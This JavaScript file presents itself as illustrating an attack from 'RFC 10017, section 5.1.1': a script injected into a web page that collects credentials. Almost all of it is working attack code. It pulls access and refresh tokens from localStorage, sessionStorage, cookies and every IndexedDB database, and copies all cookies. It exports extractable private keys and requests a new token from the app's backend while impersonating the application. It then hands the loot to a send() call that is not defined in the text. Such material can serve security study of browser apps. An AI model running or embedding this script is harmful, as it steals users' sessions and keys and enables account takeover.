/*
 * RFC 10017, section 5.1.1: a script that runs once takes the tokens that it
 * finds, for use elsewhere. It is part of the page, for instance by way of a
 * dependency that an attacker now maintains, so it may do what the application may.
 */
(async () => {
  const loot = { attack: '5.1.1', found_in: [] };

  // Tokens are stored as JSON; the names of their fields are public knowledge.
  const search = (place, text) => {
    for (const name of ['access_token', 'refresh_token']) {
      const found = new RegExp(`"${name}":"([\\w.~+/-]+)"`).exec(text ?? '');
      if (!found) continue;
      loot[name] = found[1];
      loot.found_in.push(`${name}: ${place}`);
    }
  };

  // 1. What the page has stored.
  for (const key of Object.keys(localStorage)) search('localStorage', localStorage.getItem(key));
  for (const key of Object.keys(sessionStorage)) search('sessionStorage', sessionStorage.getItem(key));
  search('a cookie', document.cookie);
  loot.cookie = document.cookie;

  // 2. Its databases. A key that cannot be exported is in there as an object,
  //    and of no use anywhere else.
  for (const { name } of await indexedDB.databases()) {
    for (const record of await records(name)) {
      search('IndexedDB', JSON.stringify(record));
      loot.key ??= await exported(record);
    }
  }

  // 3. A backend that hands out access tokens does not know who asks: the
  //    request is the application's own to the letter.
  const answer = await fetch('/auth/mediated/token', { method: 'POST', headers: { 'X-CSRF': '1' } });
  if (answer.ok) search('the backend, which was asked for it', await answer.text());

  await send(loot);

  /** Everything that a database holds. */
  async function records(name) {
    const database = await promise(indexedDB.open(name));
    const stores = [...database.objectStoreNames];
    const all = stores.map((store) => promise(database.transaction(store).objectStore(store).getAll()));
    const found = (await Promise.all(all)).flat();
    database.close();
    return found;
  }

  function promise(request) {
    return new Promise((done, failed) => {
      request.onsuccess = () => done(request.result);
      request.onerror = () => failed(request.error);
    });
  }

  /** A private key, if the application lets it be exported. */
  async function exported(record) {
    const values = [record, ...Object.values(record ?? {})];
    const keys = values.flatMap((value) => [value, value?.privateKey]);
    const key = keys.find((key) => key instanceof CryptoKey && key.type === 'private');
    return key?.extractable ? crypto.subtle.exportKey('jwk', key) : undefined;
  }
})();
